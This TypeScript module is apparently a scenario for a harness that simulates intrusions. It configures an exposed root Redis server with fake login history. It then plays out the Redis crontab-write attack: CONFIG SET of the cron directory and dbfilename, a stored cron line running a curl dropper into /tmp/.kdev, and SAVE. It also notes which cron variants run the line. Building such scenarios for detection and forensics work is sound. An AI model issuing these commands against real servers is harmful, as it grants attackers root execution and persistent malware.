// As redis-crontab; but what cron fetches writes the crontab anew, and the dump in it is gone.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { openRedis, redisCommands } from '../../redis.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  openRedis(dress, { bind: '0.0.0.0', user: 'root' })
  dress.logins({
    days: 9,
    guesses: 30,
    friends: [{ user: 'root', address: '198.51.100.20', key: 'SHA256:7t5mZ1Jq0sV0yUu9oT2mJt8wB4n1xW6cYkQf3rXbYzA', hours: [9] }],
  })
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/tmp/.kdev/kdevd', fetch: 'curl' })
  stage.mark('occurrence')
  await redisCommands(stage, '203.0.113.45', [
    ['CONFIG', 'SET', 'dir', '/var/spool/cron/crontabs'],
    ['CONFIG', 'SET', 'dbfilename', 'root'],
    ['SET', 'backup1', `\n\n\n* * * * * ${line}\n\n`],
    ['SAVE'],
  ])
  // Debian's cron refuses a crontab with bytes it does not know; the cron of other systems passes over them and runs the line.
  await stage.byCron(line)
}
